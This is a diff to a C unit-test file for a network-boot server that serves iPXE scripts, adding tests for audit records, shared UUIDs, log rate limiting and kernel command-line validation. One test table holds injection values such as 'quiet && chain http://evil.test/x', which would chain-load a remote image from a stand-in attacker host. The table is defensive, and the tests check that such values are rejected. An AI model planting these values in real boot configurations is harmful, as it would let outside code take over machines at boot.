@@ -17,10 +17,12 @@
 #include <string.h>
 #include <strings.h>
 #include <sys/stat.h>
+#include <time.h>
 #include <unistd.h>
 
 #include <cmocka.h>
 #include <curl/curl.h>
+#include <sqlite3.h>
 
 #include "boot/boot.h"
 #include "governance/governance.h"
@@ -235,6 +237,10 @@ template_null_value(void **state)
 #define RETRY_SECONDS 7
 /* Requests racing to register one MAC in boot_discover_concurrent. */
 #define RACE_THREADS 8
+/* Client-caused boot log lines allowed per second, as BOOT_LOG_BURST in boot.c. */
+#define LOG_LINES_PER_SECOND 20
+/* Requests a misbehaving client sends in the rate-limit tests. */
+#define FLOOD_REQUESTS 100
 
 struct fixture {
 	char dir[64];
@@ -536,11 +542,12 @@ machines_with_mac(struct fixture *fx, const char *mac)
 
 struct audit_match {
 	const char *action;
-	const char *target;
+	char target[64];
 	int ok;
 	int failed;
 	char actor[64];
 	char risk[32];
+	char detail[256];
 };
 
 static int
@@ -554,6 +561,7 @@ audit_match_cb(const struct audit_entry *e, void *arg)
 		m->ok++;
 		snprintf(m->actor, sizeof(m->actor), "%s", e->actor);
 		snprintf(m->risk, sizeof(m->risk), "%s", e->risk);
+		snprintf(m->detail, sizeof(m->detail), "%s", e->detail != NULL ? e->detail : "");
 	} else {
 		m->failed++;
 	}
@@ -564,8 +572,7 @@ static void
 boot_discover_unknown(void **state)
 {
 	struct fixture *fx = *state;
-	struct audit_match audit = { .action = "machine.discover",
-				     .target = "mac:52:54:00:10:00:01" };
+	struct audit_match audit = { .action = "machine.discover" };
 	struct machine m = { 0 };
 	char line[256], expect[256];
 	struct reply r;
@@ -596,12 +603,17 @@ boot_discover_unknown(void **state)
 				  "mac=${netX/mac:hexhyp}&uuid=${uuid}&buildarch=${buildarch:uristring}"
 				  "&platform=${platform:uristring} || goto retry");
 
-	/* One audit entry for the registration. */
+	/* One audit entry for the registration, naming the new machine as the API does. */
+	snprintf(audit.target, sizeof(audit.target), "machine:%" PRId64, m.id);
 	assert_int_equal(store_audit_list(fx->st, 0, 0, audit_match_cb, &audit), 0);
 	assert_int_equal(audit.ok, 1);
 	assert_int_equal(audit.failed, 0);
 	assert_string_equal(audit.actor, "boot:52:54:00:10:00:01");
 	assert_string_equal(audit.risk, "change");
+	assert_string_equal(audit.detail,
+			    "{\"mac\":\"52:54:00:10:00:01\","
+			    "\"uuid\":\"4c4c4544-0042-3510-8052-b4c04f4e3632\",\"arch\":\"x86_64\","
+			    "\"platform\":\"efi\",\"peer\":\"127.0.0.1\"}");
 
 	machine_clear(&m);
 	reply_free(&r);
@@ -613,9 +625,9 @@ boot_mac_forms(void **state)
 	struct fixture *fx = *state;
 	const char *forms[] = { "52:54:00:10:00:02", "52-54-00-10-00-02", "525400100002",
 				"52:54:00:10:00:02", "52-54-00-10-00-02", "525400100002" };
-	struct audit_match audit = { .action = "machine.discover",
-				     .target = "mac:52:54:00:10:00:02" };
+	struct audit_match audit = { .action = "machine.discover" };
 	char first[256] = "", line[256];
+	struct machine m = { 0 };
 
 	for (size_t i = 0; i < ARRAY_SIZE(forms); i++) {
 		char mac[32];
@@ -637,6 +649,9 @@ boot_mac_forms(void **state)
 	}
 
 	assert_int_equal(machines_with_mac(fx, "52:54:00:10:00:02"), 1);
+	assert_int_equal(store_machine_get_by_mac(fx->st, "52:54:00:10:00:02", &m), 0);
+	snprintf(audit.target, sizeof(audit.target), "machine:%" PRId64, m.id);
+	machine_clear(&m);
 	assert_int_equal(store_audit_list(fx->st, 0, 0, audit_match_cb, &audit), 0);
 	assert_int_equal(audit.ok, 1);
 }
@@ -670,8 +685,8 @@ boot_discover_concurrent(void **state)
 	struct fixture *fx = *state;
 	struct race races[RACE_THREADS];
 	pthread_t threads[RACE_THREADS];
-	struct audit_match audit = { .action = "machine.discover",
-				     .target = "mac:52:54:00:10:00:03" };
+	struct audit_match audit = { .action = "machine.discover" };
+	struct machine m = { 0 };
 
 	for (int i = 0; i < RACE_THREADS; i++) {
 		races[i] = (struct race){ .fx = fx };
@@ -687,8 +702,149 @@ boot_discover_concurrent(void **state)
 	}
 	assert_non_null(strstr(races[0].line, "is registered as discovered"));
 	assert_int_equal(machines_with_mac(fx, "52:54:00:10:00:03"), 1);
+	assert_int_equal(store_machine_get_by_mac(fx->st, "52:54:00:10:00:03", &m), 0);
+	snprintf(audit.target, sizeof(audit.target), "machine:%" PRId64, m.id);
+	machine_clear(&m);
 	assert_int_equal(store_audit_list(fx->st, 0, 0, audit_match_cb, &audit), 0);
 	assert_int_equal(audit.ok, 1);
+}
+
+/* Count the audit entries of `action` on `target` that failed. */
+static int
+audit_failed_count(struct fixture *fx, const char *action, const char *target)
+{
+	struct audit_match audit = { .action = action };
+
+	snprintf(audit.target, sizeof(audit.target), "%s", target);
+	assert_int_equal(store_audit_list(fx->st, 0, 0, audit_match_cb, &audit), 0);
+	return audit.failed;
+}
+
+static void
+boot_discover_shared_uuid(void **state)
+{
+	/* Request UUIDs and what the store keeps: placeholders count as no UUID. */
+	static const char *const uuids[][2] = {
+		{ "4c4c4544-0042-3510-8052-b4c04f4e36aa", "4c4c4544-0042-3510-8052-b4c04f4e36aa" },
+		{ "00000000-0000-0000-0000-000000000000", "" },
+		{ "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF", "" },
+	};
+	struct fixture *fx = *state;
+	int failed_before = audit_failed_count(fx, "machine.discover", "machine:new");
+	char line[256];
+
+	/* Two servers per UUID, as when firmware reports the same value on every board. */
+	for (size_t i = 0; i < ARRAY_SIZE(uuids); i++) {
+		for (size_t j = 0; j < 2; j++) {
+			struct machine m = { 0 };
+			char mac[MAC_TEXT_SIZE];
+			struct reply r;
+
+			snprintf(mac, sizeof(mac), "52:54:00:10:01:%02zx", i * 2 + j);
+			boot_get(fx, mac, uuids[i][0], "x86_64", "efi", &r);
+			script_line(&r, "echo Outpost: ", line, sizeof(line));
+			if (strstr(line, "is registered as discovered") == NULL)
+				print_message("%s with uuid %s got: %s\n", mac, uuids[i][0], line);
+			assert_non_null(strstr(line, "is registered as discovered"));
+			reply_free(&r);
+
+			assert_int_equal(store_machine_get_by_mac(fx->st, mac, &m), 0);
+			assert_string_equal(m.uuid, uuids[i][1]);
+			machine_clear(&m);
+		}
+	}
+	assert_int_equal(audit_failed_count(fx, "machine.discover", "machine:new"), failed_before);
+}
+
+/* Redirect stderr, where the log goes, to a file while a test floods the handler. */
+struct capture {
+	int saved_fd;
+	char path[160];
+	time_t started;
+};
+
+static void
+capture_start(struct fixture *fx, struct capture *c)
+{
+	int fd;
+
+	snprintf(c->path, sizeof(c->path), "%s/stderr.log", fx->dir);
+	fflush(stderr);
+	fd = open(c->path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
+	assert_true(fd >= 0);
+	c->saved_fd = dup(STDERR_FILENO);
+	assert_true(c->saved_fd >= 0);
+	assert_int_equal(dup2(fd, STDERR_FILENO), STDERR_FILENO);
+	close(fd);
+
+	/* Start on a fresh second, so lines an earlier test logged do not use its quota. */
+	c->started = time(NULL);
+	while (time(NULL) == c->started)
+		usleep(10 * 1000);
+	c->started = time(NULL);
+}
+
+/* Restore stderr and check that the lines containing `needle` were rate-limited. */
+static void
+capture_check(struct capture *c, const char *needle)
+{
+	time_t seconds;
+	char line[1024];
+	int lines = 0;
+	FILE *f;
+
+	fflush(stderr);
+	seconds = time(NULL) - c->started + 1;
+	assert_int_equal(dup2(c->saved_fd, STDERR_FILENO), STDERR_FILENO);
+	close(c->saved_fd);
+
+	f = fopen(c->path, "r");
+	assert_non_null(f);
+	while (fgets(line, sizeof(line), f) != NULL) {
+		if (strstr(line, needle) != NULL)
+			lines++;
+	}
+	fclose(f);
+	unlink(c->path);
+
+	print_message("%d \"%s\" lines for %d requests in %lld s\n", lines, needle,
+		      FLOOD_REQUESTS, (long long)seconds);
+	assert_true(lines >= 1);
+	assert_true(lines <= LOG_LINES_PER_SECOND * seconds);
+}
+
+/* A store failure while registering gets retry.ipxe, and its log line is rate-limited. */
+static void
+boot_discover_failure_rate_limited(void **state)
+{
+	static struct reply replies[FLOOD_REQUESTS];
+	struct fixture *fx = *state;
+	struct capture capture;
+	sqlite3 *db;
+
+	/* A trigger makes every machine insert fail, as a broken store would. */
+	assert_int_equal(sqlite3_open(fx->db, &db), SQLITE_OK);
+	sqlite3_busy_timeout(db, 5000);
+	assert_int_equal(sqlite3_exec(db, "CREATE TRIGGER machines_fail BEFORE INSERT ON machines"
+				      " BEGIN SELECT RAISE(ABORT, 'insert refused by test'); END;",
+				      NULL, NULL, NULL), SQLITE_OK);
+
+	capture_start(fx, &capture);
+	for (int i = 0; i < FLOOD_REQUESTS; i++)
+		boot_get(fx, "52:54:00:10:00:0e", NULL, "x86_64", "efi", &replies[i]);
+
+	/* Drop the trigger before any check, so a failure here leaves later tests alone. */
+	assert_int_equal(sqlite3_exec(db, "DROP TRIGGER machines_fail", NULL, NULL, NULL),
+			 SQLITE_OK);
+	sqlite3_close(db);
+
+	capture_check(&capture, "cannot register mac=52:54:00:10:00:0e");
+	for (int i = 0; i < FLOOD_REQUESTS; i++) {
+		assert_retry(&replies[i],
+			     "could not register mac 52:54:00:10:00:0e, see the server log");
+		reply_free(&replies[i]);
+	}
+	assert_int_equal(machines_with_mac(fx, "52:54:00:10:00:0e"), 0);
 }
 
 static void
@@ -749,6 +905,84 @@ boot_deploying_bad_kernel(void **state)
 	machine_add(fx, "52:54:00:10:00:06", MACHINE_DEPLOYING, profile, "");
 	boot_get(fx, "52:54:00:10:00:06", NULL, "x86_64", "efi", &r);
 	assert_retry(&r, "profile escape has an invalid kernel reference");
+	reply_free(&r);
+}
+
+/* Command lines that could add iPXE commands, stored past the API's check. */
+static const struct {
+	const char *cmdline;
+	const char *reason;
+} bad_cmdlines[] = {
+	{ "quiet && chain http://evil.test/x", "character 0x26 at byte 6" },
+	{ "quiet || chain http://evil.test/x ||", "character 0x7c at byte 6" },
+	{ "quiet ; chain http://evil.test/x", "character 0x3b at byte 6" },
+	{ "ip=${net0/ip}", "character 0x24 at byte 3" },
+	{ "quiet #", "character 0x23 at byte 6" },
+	{ "quiet\nchain http://evil.test/x", "character 0x0a at byte 5" },
+};
+
+static void
+boot_deploying_bad_cmdline(void **state)
+{
+	struct fixture *fx = *state;
+	char name[32], mac[MAC_TEXT_SIZE], reason[256];
+	struct capture capture;
+	int64_t profile;
+
+	for (size_t i = 0; i < ARRAY_SIZE(bad_cmdlines); i++) {
+		struct reply r;
+
+		snprintf(name, sizeof(name), "inject%zu", i);
+		snprintf(mac, sizeof(mac), "52:54:00:10:02:%02zx", i);
+		profile = profile_add(fx, name, "debian/vmlinuz", "debian/initrd.img",
+				      bad_cmdlines[i].cmdline);
+		machine_add(fx, mac, MACHINE_DEPLOYING, profile, "");
+
+		boot_get(fx, mac, NULL, "x86_64", "efi", &r);
+		snprintf(reason, sizeof(reason), "profile %s has an invalid kernel command line: %s",
+			 name, bad_cmdlines[i].reason);
+		assert_retry(&r, reason);
+		assert_null(strstr(r.body.data, "evil.test"));
+		assert_null(strstr(r.body.data, "kernel --name"));
+		reply_free(&r);
+	}
+
+	/* The machine requests its script again after every retry, so warnings are rate-limited. */
+	capture_start(fx, &capture);
+	for (int i = 0; i < FLOOD_REQUESTS; i++) {
+		struct reply r;
+
+		boot_get(fx, "52:54:00:10:02:00", NULL, "x86_64", "efi", &r);
+		assert_int_equal(r.status, 200);
+		reply_free(&r);
+	}
+	capture_check(&capture, "cannot deploy machine=");
+}
+
+static void
+boot_no_hostname(void **state)
+{
+	struct fixture *fx = *state;
+	char line[256], expect[256];
+	int64_t profile, id;
+	struct reply r;
+
+	/* Without a host name the line has the id alone, with no double space after it. */
+	profile = profile_add(fx, "plain", "debian/vmlinuz", "debian/initrd.img", "");
+	id = machine_add(fx, "52:54:00:10:00:0b", MACHINE_DEPLOYING, profile, "");
+	boot_get(fx, "52:54:00:10:00:0b", NULL, "x86_64", "efi", &r);
+	script_line(&r, "echo Outpost: deploying", line, sizeof(line));
+	snprintf(expect, sizeof(expect),
+		 "echo Outpost: deploying machine %" PRId64 " (52:54:00:10:00:0b)", id);
+	assert_string_equal(line, expect);
+	reply_free(&r);
+
+	id = machine_add(fx, "52:54:00:10:00:0c", MACHINE_DEPLOYED, 0, "");
+	boot_get(fx, "52:54:00:10:00:0c", NULL, "x86_64", "efi", &r);
+	script_line(&r, "echo Outpost: machine", line, sizeof(line));
+	snprintf(expect, sizeof(expect),
+		 "echo Outpost: machine %" PRId64 " is deployed, booting from the local disk", id);
+	assert_string_equal(line, expect);
 	reply_free(&r);
 }
 
@@ -1015,9 +1249,13 @@ main(void)
 		cmocka_unit_test(boot_discover_unknown),
 		cmocka_unit_test(boot_mac_forms),
 		cmocka_unit_test(boot_discover_concurrent),
+		cmocka_unit_test(boot_discover_shared_uuid),
+		cmocka_unit_test(boot_discover_failure_rate_limited),
 		cmocka_unit_test(boot_deploying_profile),
 		cmocka_unit_test(boot_deploying_no_profile),
 		cmocka_unit_test(boot_deploying_bad_kernel),
+		cmocka_unit_test(boot_deploying_bad_cmdline),
+		cmocka_unit_test(boot_no_hostname),
 		cmocka_unit_test(boot_deployed_local),
 		cmocka_unit_test(boot_ready_discovery),
 		cmocka_unit_test(boot_bad_requests),
